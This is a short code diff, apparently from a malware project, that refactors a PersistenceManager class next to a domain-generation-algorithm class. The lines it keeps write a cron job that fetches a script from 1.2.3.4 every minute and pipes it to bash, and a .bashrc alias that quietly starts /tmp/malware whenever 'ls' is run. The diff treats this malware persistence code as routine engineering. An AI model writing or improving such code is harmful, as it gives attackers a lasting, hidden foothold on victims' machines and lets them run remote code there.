@@ -184,15 +184,18 @@ class DGA:
         except: return False
 
 class PersistenceManager:
+    def __init__(self, base_dir="/tmp"):
+        self.base_dir = base_dir
+
     def install_cron(self):
         try:
-            with open("/tmp/malicious.cron", "w") as f:
+            with open(os.path.join(self.base_dir, "malicious.cron"), "w") as f:
                 f.write("* * * * * /bin/bash -c 'curl -k https://1.2.3.4/run | bash'\n")
             return True
         except: return False
     def install_bashrc(self):
         try:
-            with open("/tmp/.bashrc_backdoor", "w") as f:
+            with open(os.path.join(self.base_dir, ".bashrc_backdoor"), "w") as f:
                 f.write("alias ls='ls --color=auto; /tmp/malware &'\n")
             return True
         except: return False